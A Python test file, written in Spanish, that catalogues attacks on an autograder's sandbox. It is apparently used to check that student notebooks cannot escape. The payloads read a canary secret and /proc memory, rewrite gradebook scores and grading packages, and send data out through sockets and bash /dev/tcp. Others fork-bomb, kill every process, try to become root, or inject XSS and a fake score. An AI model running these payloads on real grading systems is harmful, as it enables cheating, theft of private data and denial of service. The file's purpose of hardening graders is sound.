"""Ataques a la máquina de quien corrige: leer, escribir, hablar, quedarse o acabar con ella."""

from __future__ import annotations

from tests.grading.attacks.attack import Attack, Notebook

READ, WRITE, TALK, STAY, BREAK, SHOW = "leer", "escribir", "hablar", "quedarse", "romper", "engañar"
_TELL = "import socket\ndef tell(text):\n    s = socket.create_connection(('127.0.0.1', @PUERTO@), timeout=1)\n" \
    "    s.sendall(str(text).encode()); s.close()\n"  # fmt: skip


def _markdown(text: str):
    def twist(notebook: Notebook) -> None:
        notebook["cells"].append({"cell_type": "markdown", "source": text, "metadata": {}})

    return twist


ATTACKS = (
    Attack("lee el secreto del profesor y lo imprime", READ, ("print(open('@CANARIO@').read())",)),
    Attack("lo busca por toda la máquina", READ, (
        "import os\nfor root, folders, names in os.walk('/'):\n    folders[:] = [f for f in folders if f not in ('proc', "
        "'sys', 'usr', 'lib', 'site-packages')][:40]\n    for name in names:\n        if 'canario' in name:\n            "
        "print(open(os.path.join(root, name)).read())",
    )),
    Attack("lo lee a través de /proc", READ, (
        "import glob\nfor path in glob.glob('/proc/*/root@CANARIO@') + glob.glob('/proc/*/environ') + "
        "glob.glob('/proc/*/cwd/*'):\n    try: print(open(path).read())\n    except OSError: pass",
    )),
    Attack("lo lee con un enlace en su carpeta", READ, (
        "import os\nos.symlink('@CANARIO@', 'enlace'); print(open('enlace').read())",
    )),
    Attack("lee el libro de notas y las entregas de los demás", READ, (
        "import glob\nfor path in glob.glob('@CURSO@/**', recursive=True): print(path); print(open(path, 'rb').read()[:99])",
    )),
    Attack("lee las soluciones y las comprobaciones reservadas", READ, (
        "import os, glob, lab_tools\nroot = os.path.dirname(os.path.dirname(lab_tools.__file__))\n"
        "for path in glob.glob(root + '/labs/*/hidden/*') + glob.glob(root + '/labs/*/solutions/*/*'): "
        "print('RESERVADO', open(path).read())",
    )),
    Attack("lee las variables de entorno del corrector", READ, ("import os; print(os.environ.get('CANARIO_ENTORNO'))",)),
    Attack("lee la memoria de quien lo lanzó", READ, (
        "import os\nfor pid in [os.getppid(), 1, 2, 3]:\n    try: print(open(f'/proc/{pid}/mem', 'rb').read(10))\n"
        "    except OSError as e: print(e.errno)",
    )),
    Attack("hereda descriptores abiertos", READ, (
        "import os\nfor n in range(3, 256):\n    try:\n        os.lseek(n, 0, 0); print(os.read(n, 200))\n"
        "    except OSError: pass",
    )),
    Attack("escribe en el libro de notas", WRITE, (
        "import sqlite3\ndb = sqlite3.connect('@CURSO@/gradebook.db')\ndb.execute('update grade set auto_score = 99')\n"
        "db.execute('update grade set manual_score = 99'); db.commit()",
    )),
    Attack("escribe en la entrega de otro", WRITE, ("open('@CURSO@/submitted/otra/06-deployments/lab.ipynb', 'w').write('{}')",)),
    Attack("cambia la configuración del curso", WRITE, ("open('@CURSO@/nbgrader_config.py', 'a').write('\\nimport os')",)),
    Attack("deja un archivo de arranque de IPython", WRITE, (
        "import os, pathlib\nfor home in {os.environ.get('HOME', '/'), '@CASA@'}:\n    p = pathlib.Path(home, '.ipython/"
        "profile_default/startup'); p.mkdir(parents=True, exist_ok=True); (p / '00.py').write_text('print(5.0)')",
    )),
    Attack("cambia los paquetes instalados", WRITE, (
        "import nbgrader.utils as u\nopen(u.__file__, 'a').write('\\ndetermine_grade = lambda *a: (5, 5)\\n')",
        "import lab_tools.checks.run as r\nopen(r.__file__, 'a').write('# tocado')",
    )),
    Attack("escribe con rutas relativas hacia arriba", WRITE, (
        "import os\nfor n in range(1, 9):\n    try: open('../' * n + 'canario-escrito', 'w').write('x')\n    except OSError: pass",
    )),
    Attack("manda el secreto por un socket", TALK, (_TELL + "tell(open('@CANARIO@').read())",)),
    Attack("llama a casa", TALK, (_TELL + "tell('hola desde dentro')",)),
    Attack("llama a casa con un programa", TALK, ("!echo hola | timeout 2 bash -c 'cat > /dev/tcp/127.0.0.1/@PUERTO@'",)),
    Attack("busca el socket de Docker", TALK, (
        "import glob\nprint([p for p in ('/var/run/docker.sock', '/run/docker.sock', *glob.glob('/run/*'), "
        "*glob.glob('/tmp/*'))])",
    )),
    Attack("deja un proceso en marcha", STAY, ("import subprocess\nsubprocess.Popen(['sleep', '654321'], env={'X': '@MARCA@'})",)),
    Attack("deja un demonio en otra sesión", STAY, (
        "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.environ['X'] = '@MARCA@'\n"
        "        os.execvp('sleep', ['sleep', '654321'])\n    os._exit(0)",
    )),
    Attack("bifurca sin fin", BREAK, ("import os\nwhile True:\n    try: os.fork()\n    except OSError: break",)),
    Attack("pide toda la memoria", BREAK, ("x = []\nwhile True: x.append(bytearray(50_000_000))",)),
    Attack("llena el disco", BREAK, (
        "with open('grande', 'wb') as f:\n    for _ in range(300): f.write(b'x' * 1_000_000)",
    )),
    Attack("escribe sin fin", BREAK, ("while True: print('x' * 1000)",)),
    Attack("no hace caso de las interrupciones", BREAK, (
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
    )),
    Attack("se traga las excepciones en un bucle", BREAK, (
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
    )),
    Attack("rompe su intérprete", BREAK, ("import ctypes; ctypes.string_at(0)",)),
    Attack("agota los descriptores", BREAK, ("import os\nx = []\nwhile True: x.append(os.open('/dev/null', 0))",)),
    Attack("mata a todos los que puede", BREAK, ("import os, signal\nos.kill(-1, signal.SIGKILL)",)),
    Attack("para al que lo lanzó", BREAK, ("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)",)),
    Attack("levanta otros espacios de nombres y monta", BREAK, (
        "!unshare -Urm sh -c 'mount -t tmpfs none /tmp && mount --bind / /mnt'\nimport ctypes\n"
        "print(ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None))",
    )),
    Attack("vuelve a ser root", BREAK, ("import os\nfor f in (os.setuid, os.setgid): f(0)", "!su -c id; sudo -n id")),
    Attack("enseña un script", SHOW, (
        "from IPython.display import HTML, Javascript, SVG, display\ndisplay(HTML('<script>malo()</script><img src=x "
        "onerror=malo()>'))\ndisplay(Javascript('malo()'))\ndisplay(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" "
        "onload=\"malo()\"><script>malo()</script></svg>'))",
    )),
    Attack("pone un script en su respuesta", SHOW, twist=_markdown(
        "<script>malo()</script> [x](javascript:malo()) ![x](http://192.0.2.1/x.png) <iframe src='http://192.0.2.1'></iframe>"
    )),
    Attack("dibuja una nota falsa en la página", SHOW, twist=_markdown(
        "<div class='cabecera'><h1>30 de 30</h1></div><style>.puntos{display:none}</style>"
    )),
)  # fmt: skip
